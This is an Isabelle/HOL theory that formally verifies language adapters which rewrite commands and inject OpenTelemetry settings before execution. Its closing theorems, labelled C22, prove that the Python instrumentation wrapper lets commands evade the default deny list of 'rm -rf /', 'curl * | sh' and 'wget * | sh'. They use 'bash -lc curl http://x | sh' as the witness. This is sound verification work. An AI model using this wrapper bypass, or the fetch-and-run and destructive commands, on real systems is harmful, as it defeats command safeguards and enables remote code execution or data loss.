(* ===== verification/Adapters.thy ===== *)
theory Adapters
  imports Policy
begin

text \<open>
  \<open>internal/adapter\<close> and \<open>internal/lang/go\<close>: the language adapters that rewrite a command and its
  environment before the execute phase, and the registry that picks one. The Go interface
  \<open>Adapter\<close> is the locale \<open>adapter\<close>, whose laws are what the phase engine relies on; every adapter of
  the registry is an interpretation. A rewrite never fails in the code, so it returns no error here;
  the registry's \<open>Resolve\<close> does.
\<close>

section \<open>The adapters\<close>

definition mergeOTelEnv :: "env \<Rightarrow> run_config \<Rightarrow> env" where
  "mergeOTelEnv m cfg =
     (let r = cfg_run cfg;
          resourceAttrs = [''deployment.environment.name='' @ rs_deployment_environment r,
                           ''run_id='' @ rs_run_id r, ''attempt='' @ itoa (rs_attempt r),
                           ''sandbox_id='' @ rs_sandbox_id r];
          m = env_put ''OTEL_SERVICE_NAME'' (rs_service_name r) m;
          m = env_put ''OTEL_EXPORTER_OTLP_ENDPOINT'' (rs_otlp_endpoint r) m;
          m = env_put ''OTEL_TRACES_EXPORTER'' ''otlp'' m;
          m = env_put ''OTEL_METRICS_EXPORTER'' ''otlp'' m;
          m = env_put ''OTEL_LOGS_EXPORTER'' ''otlp'' m
      in env_put ''OTEL_RESOURCE_ATTRIBUTES'' (join '','' resourceAttrs) m)"

definition JavaAdapter_Detect :: "string list \<Rightarrow> env \<Rightarrow> bool" where
  "JavaAdapter_Detect cmd m \<longleftrightarrow> cmd \<noteq> [] \<and> path_base (cmd ! 0) = ''java''"

definition JavaAdapter_Rewrite :: "string list \<Rightarrow> env \<Rightarrow> run_config \<Rightarrow> string list \<times> env" where
  "JavaAdapter_Rewrite cmd m cfg =
     (let m = (if \<not> env_has m ''JAVA_TOOL_OPTIONS''
               then env_put ''JAVA_TOOL_OPTIONS'' ''-javaagent:/opt/otel/opentelemetry-javaagent.jar'' m else m)
      in (cmd, mergeOTelEnv m cfg))"

definition PythonAdapter_Detect :: "string list \<Rightarrow> env \<Rightarrow> bool" where
  "PythonAdapter_Detect cmd m \<longleftrightarrow> cmd \<noteq> [] \<and>
     (let base = path_base (cmd ! 0) in
      base = ''python'' \<or> base = ''python3'' \<or> has_prefix base ''python'')"

definition PythonAdapter_Rewrite :: "string list \<Rightarrow> env \<Rightarrow> run_config \<Rightarrow> string list \<times> env" where
  "PythonAdapter_Rewrite cmd m cfg =
     (let m = mergeOTelEnv m cfg in
      if cmd = [] then (cmd, m) else (''opentelemetry-instrument'' # cmd, m))"

definition NodeAdapter_Detect :: "string list \<Rightarrow> env \<Rightarrow> bool" where
  "NodeAdapter_Detect cmd m \<longleftrightarrow> cmd \<noteq> [] \<and>
     (let base = path_base (cmd ! 0) in base = ''node'' \<or> base = ''npm'' \<or> base = ''pnpm'')"

definition NodeAdapter_Rewrite :: "string list \<Rightarrow> env \<Rightarrow> run_config \<Rightarrow> string list \<times> env" where
  "NodeAdapter_Rewrite cmd m cfg =
     (let m = mergeOTelEnv m cfg;
          m = (if \<not> env_has m ''NODE_OPTIONS''
               then env_put ''NODE_OPTIONS'' ''--require @opentelemetry/auto-instrumentations-node/register'' m
               else m)
      in (cmd, m))"

definition GoAdapter_Detect :: "string list \<Rightarrow> env \<Rightarrow> bool" where
  "GoAdapter_Detect cmd m \<longleftrightarrow> cmd \<noteq> [] \<and>
     (let base = path_base (cmd ! 0) in
      if base = ''go'' \<or> base = ''air'' \<or> base = ''dlv'' then True
      else has_prefix base ''.'' \<or> has_prefix base ''/'')"

definition GoAdapter_Rewrite :: "string list \<Rightarrow> env \<Rightarrow> run_config \<Rightarrow> string list \<times> env" where
  "GoAdapter_Rewrite cmd m cfg =
     (let out = env_put ''RUN_ID'' (rs_run_id (cfg_run cfg)) m;
          out = env_put ''ATTEMPT'' (itoa (rs_attempt (cfg_run cfg))) out;
          out = env_put ''SANDBOX_ID'' (rs_sandbox_id (cfg_run cfg)) out
      in (cmd, env_put_all out (gc_extra_env (cfg_go cfg))))"

definition ShellAdapter_Detect :: "string list \<Rightarrow> env \<Rightarrow> bool" where
  "ShellAdapter_Detect cmd m \<longleftrightarrow> True"

definition ShellAdapter_Rewrite :: "string list \<Rightarrow> env \<Rightarrow> run_config \<Rightarrow> string list \<times> env" where
  "ShellAdapter_Rewrite cmd m cfg = (cmd, mergeOTelEnv m cfg)"

section \<open>The registry\<close>

datatype lang_adapter = JavaAdapter | PythonAdapter | NodeAdapter | GoAdapter | ShellAdapter

fun adapter_Name :: "lang_adapter \<Rightarrow> string" where
  "adapter_Name JavaAdapter = ''java''"
| "adapter_Name PythonAdapter = ''python''"
| "adapter_Name NodeAdapter = ''node''"
| "adapter_Name GoAdapter = ''go''"
| "adapter_Name ShellAdapter = ''shell''"

fun adapter_Detect :: "lang_adapter \<Rightarrow> string list \<Rightarrow> env \<Rightarrow> bool" where
  "adapter_Detect JavaAdapter = JavaAdapter_Detect"
| "adapter_Detect PythonAdapter = PythonAdapter_Detect"
| "adapter_Detect NodeAdapter = NodeAdapter_Detect"
| "adapter_Detect GoAdapter = GoAdapter_Detect"
| "adapter_Detect ShellAdapter = ShellAdapter_Detect"

fun adapter_Rewrite :: "lang_adapter \<Rightarrow> string list \<Rightarrow> env \<Rightarrow> run_config \<Rightarrow> string list \<times> env" where
  "adapter_Rewrite JavaAdapter = JavaAdapter_Rewrite"
| "adapter_Rewrite PythonAdapter = PythonAdapter_Rewrite"
| "adapter_Rewrite NodeAdapter = NodeAdapter_Rewrite"
| "adapter_Rewrite GoAdapter = GoAdapter_Rewrite"
| "adapter_Rewrite ShellAdapter = ShellAdapter_Rewrite"

definition NewRegistry :: "lang_adapter list" where
  "NewRegistry = [JavaAdapter, PythonAdapter, NodeAdapter, GoAdapter, ShellAdapter]"

definition Resolve :: "lang_adapter list \<Rightarrow> string \<Rightarrow> string list \<Rightarrow> env \<Rightarrow> go_error + lang_adapter" where
  "Resolve adapters language cmd m =
     (if language \<noteq> [] \<and> language \<noteq> ''auto'' then
        (case find (\<lambda>a. adapter_Name a = language) adapters of
           Some a \<Rightarrow> Inr a
         | None \<Rightarrow> Inl (ErrorText (''unsupported language adapter: '' @ language)))
      else (case find (\<lambda>a. adapter_Detect a cmd m) adapters of
           Some a \<Rightarrow> Inr a
         | None \<Rightarrow> Inr ShellAdapter))"

section \<open>The contract of an adapter\<close>

text \<open>
  The engine runs the rewritten command in the rewritten environment. What it relies on: words may
  be put in front of a command but none of its own is changed, an empty command stays empty, and a
  variable of the environment survives unless its name is in \<open>written\<close>, the set of names the
  adapter assigns for that configuration.
\<close>

locale adapter =
  fixes detect :: "string list \<Rightarrow> env \<Rightarrow> bool"
    and rewrite :: "string list \<Rightarrow> env \<Rightarrow> run_config \<Rightarrow> string list \<times> env"
    and front :: "string list"
    and written :: "run_config \<Rightarrow> string set"
  assumes command: "cmd \<noteq> [] \<Longrightarrow> fst (rewrite cmd m cfg) = front @ cmd"
    and empty: "fst (rewrite [] m cfg) = []"
    and kept: "k \<notin> written cfg \<Longrightarrow> map_of (snd (rewrite cmd m cfg)) k = map_of m k"
    and pure: "snd (rewrite cmd m cfg) = snd (rewrite cmd' m cfg)"
begin

lemma command_suffix: "suffix cmd (fst (rewrite cmd m cfg))"
  by (cases "cmd = []") (simp_all add: command suffix_def)

lemma command_nonempty: "fst (rewrite cmd m cfg) = [] \<longleftrightarrow> cmd = []"
  by (cases "cmd = []") (simp_all add: command empty)

lemma rewrite_twice_kept:
  "k \<notin> written cfg \<Longrightarrow> map_of (snd (rewrite cmd (snd (rewrite cmd m cfg)) cfg)) k = map_of m k"
  by (simp add: kept)

end

definition otel_names :: "string set" where
  "otel_names = {''OTEL_SERVICE_NAME'', ''OTEL_EXPORTER_OTLP_ENDPOINT'', ''OTEL_TRACES_EXPORTER'',
     ''OTEL_METRICS_EXPORTER'', ''OTEL_LOGS_EXPORTER'', ''OTEL_RESOURCE_ATTRIBUTES''}"

lemma mergeOTelEnv_other: "k \<notin> otel_names \<Longrightarrow> map_of (mergeOTelEnv m cfg) k = map_of m k"
  by (simp add: mergeOTelEnv_def otel_names_def Let_def)

lemma mergeOTelEnv_otel:
  "map_of (mergeOTelEnv m cfg) ''OTEL_EXPORTER_OTLP_ENDPOINT'' = Some (rs_otlp_endpoint (cfg_run cfg))"
  by (simp add: mergeOTelEnv_def Let_def)

interpretation java: adapter JavaAdapter_Detect JavaAdapter_Rewrite "[]"
    "\<lambda>cfg. insert ''JAVA_TOOL_OPTIONS'' otel_names"
  by unfold_locales (auto simp: JavaAdapter_Rewrite_def mergeOTelEnv_other Let_def)

interpretation python: adapter PythonAdapter_Detect PythonAdapter_Rewrite "[''opentelemetry-instrument'']"
    "\<lambda>cfg. otel_names"
  by unfold_locales (auto simp: PythonAdapter_Rewrite_def mergeOTelEnv_other Let_def)

interpretation node: adapter NodeAdapter_Detect NodeAdapter_Rewrite "[]"
    "\<lambda>cfg. insert ''NODE_OPTIONS'' otel_names"
  by unfold_locales (auto simp: NodeAdapter_Rewrite_def mergeOTelEnv_other Let_def)

interpretation golang: adapter GoAdapter_Detect GoAdapter_Rewrite "[]"
    "\<lambda>cfg. {''RUN_ID'', ''ATTEMPT'', ''SANDBOX_ID''} \<union> fst ` set (gc_extra_env (cfg_go cfg))"
proof
  fix k cmd and cfg :: run_config and m :: env
  assume k: "k \<notin> {''RUN_ID'', ''ATTEMPT'', ''SANDBOX_ID''} \<union> fst ` set (gc_extra_env (cfg_go cfg))"
  then have "map_of (gc_extra_env (cfg_go cfg)) k = None" by (simp add: map_of_eq_None_iff)
  with k show "map_of (snd (GoAdapter_Rewrite cmd m cfg)) k = map_of m k"
    by (simp add: GoAdapter_Rewrite_def Let_def map_of_env_put_all map_add_def)
qed (simp_all add: GoAdapter_Rewrite_def Let_def)

interpretation shell: adapter ShellAdapter_Detect ShellAdapter_Rewrite "[]" "\<lambda>cfg. otel_names"
  by unfold_locales (auto simp: ShellAdapter_Rewrite_def mergeOTelEnv_other)

section \<open>Properties\<close>

lemma adapter_command_suffix: "suffix cmd (fst (adapter_Rewrite a cmd m cfg))"
  by (cases a) (simp_all add: java.command_suffix python.command_suffix node.command_suffix
      golang.command_suffix shell.command_suffix)

lemma adapter_command_nonempty: "fst (adapter_Rewrite a cmd m cfg) = [] \<longleftrightarrow> cmd = []"
  by (cases a) (simp_all add: java.command_nonempty python.command_nonempty node.command_nonempty
      golang.command_nonempty shell.command_nonempty)

definition adapter_names :: "run_config \<Rightarrow> string set" where
  "adapter_names cfg = otel_names \<union> {''JAVA_TOOL_OPTIONS'', ''NODE_OPTIONS'', ''RUN_ID'', ''ATTEMPT'', ''SANDBOX_ID''}
     \<union> fst ` set (gc_extra_env (cfg_go cfg))"


text \<open>
  Automatic detection never fails: with no language given the registry always answers, with the
  first adapter whose detection holds, and with the shell adapter when none of the others does. A
  language that is given is looked up by name only.
\<close>

theorem Resolve_total:
  "(\<exists>a. Resolve NewRegistry ''auto'' cmd m = Inr a \<and> adapter_Detect a cmd m) \<and>
   (Resolve NewRegistry ''auto'' cmd m = Inr ShellAdapter \<longleftrightarrow>
      {a. adapter_Detect a cmd m} = {ShellAdapter}) \<and>
   Resolve NewRegistry (adapter_Name b) cmd m = Inr b"
proof -
  have all: "UNIV = {JavaAdapter, PythonAdapter, NodeAdapter, GoAdapter, ShellAdapter}"
    by (auto intro: lang_adapter.exhaust)
  have "{a. adapter_Detect a cmd m} = {ShellAdapter} \<longleftrightarrow>
      \<not> JavaAdapter_Detect cmd m \<and> \<not> PythonAdapter_Detect cmd m \<and> \<not> NodeAdapter_Detect cmd m \<and>
      \<not> GoAdapter_Detect cmd m"
  proof
    assume eq: "{a. adapter_Detect a cmd m} = {ShellAdapter}"
    then have "\<not> adapter_Detect a cmd m" if "a \<noteq> ShellAdapter" for a using that by blast
    from this [of JavaAdapter] this [of PythonAdapter] this [of NodeAdapter] this [of GoAdapter]
    show "\<not> JavaAdapter_Detect cmd m \<and> \<not> PythonAdapter_Detect cmd m \<and> \<not> NodeAdapter_Detect cmd m \<and>
      \<not> GoAdapter_Detect cmd m" by simp
  next
    assume no: "\<not> JavaAdapter_Detect cmd m \<and> \<not> PythonAdapter_Detect cmd m \<and> \<not> NodeAdapter_Detect cmd m \<and>
      \<not> GoAdapter_Detect cmd m"
    have "adapter_Detect a cmd m \<longleftrightarrow> a = ShellAdapter" for a
      using no by (cases a) (simp_all add: ShellAdapter_Detect_def)
    then show "{a. adapter_Detect a cmd m} = {ShellAdapter}" by auto
  qed
  moreover have "Resolve NewRegistry (adapter_Name b) cmd m = Inr b"
    by (cases b) (simp_all add: Resolve_def NewRegistry_def)
  ultimately show ?thesis
    by (auto simp: Resolve_def NewRegistry_def ShellAdapter_Detect_def)
qed

text \<open>
  C22: with the Python adapter the shipped policy refuses no command at all. The check sees the
  rewritten command, whose first word is the instrumentation wrapper: the wrapper is on the allow
  list, no shell is unwrapped behind it, and every shipped deny pattern is anchored at the start of
  the line.
\<close>

theorem python_adapter_escapes_default_policy:
  assumes "cmd \<noteq> []"
  shows "CheckCommand shlex (NewEngine DefaultPolicyConfig run_cfg) ph
    (fst (adapter_Rewrite PythonAdapter cmd m cfg)) = None"
proof -
  let ?line = "''opentelemetry-instrument'' # cmd"
  have norm: "procNormalize shlex ?line = ?line" by (simp add: procNormalize_def)
  have low: "to_lower (join '' '' ?line) = CHR ''o'' # tl (to_lower (join '' '' ?line))"
    using assms by (cases cmd) (simp_all add: to_lower_append, simp_all add: to_lower_def lower_char_def is_upper_def)
  have "\<not> matchesPattern (to_lower pattern) (to_lower (join '' '' ?line))"
    if "pattern \<in> {''rm -rf /'', ''curl * | sh'', ''wget * | sh''}" for pattern
    using that by (subst low) (auto simp: to_lower_def lower_char_def is_upper_def)
  then have none: "deny_match (tp_deny_patterns (pol_tools DefaultPolicyConfig)) (join '' '' ?line) = None"
    by (auto simp: deny_match_None DefaultPolicyConfig_def)
  have "path_base ''opentelemetry-instrument'' = ''opentelemetry-instrument''" by code_simp
  moreover have "containsFold (tp_allow (pol_tools DefaultPolicyConfig)) ''opentelemetry-instrument''" by code_simp
  ultimately show ?thesis
    using assms none norm
    by (simp add: PythonAdapter_Rewrite_def CheckCommand_def NewEngine_def Let_def)
qed

theorem python_adapter_escapes_default_policy_witness:
  "CheckCommand (\<lambda>s. None) (NewEngine DefaultPolicyConfig DefaultRunConfig) PhaseExecute
     (fst (adapter_Rewrite PythonAdapter [''bash'', ''-lc'', ''curl http://x | sh''] [] DefaultRunConfig)) = None
   \<and> CheckCommand (\<lambda>s. Some [''curl'', ''http://x'', ''|'', ''sh'']) (NewEngine DefaultPolicyConfig DefaultRunConfig)
       PhaseExecute [''bash'', ''-lc'', ''curl http://x | sh''] \<noteq> None"
proof
  show "CheckCommand (\<lambda>s. None) (NewEngine DefaultPolicyConfig DefaultRunConfig) PhaseExecute
     (fst (adapter_Rewrite PythonAdapter [''bash'', ''-lc'', ''curl http://x | sh''] [] DefaultRunConfig)) = None"
    by (rule python_adapter_escapes_default_policy) simp
qed code_simp

end
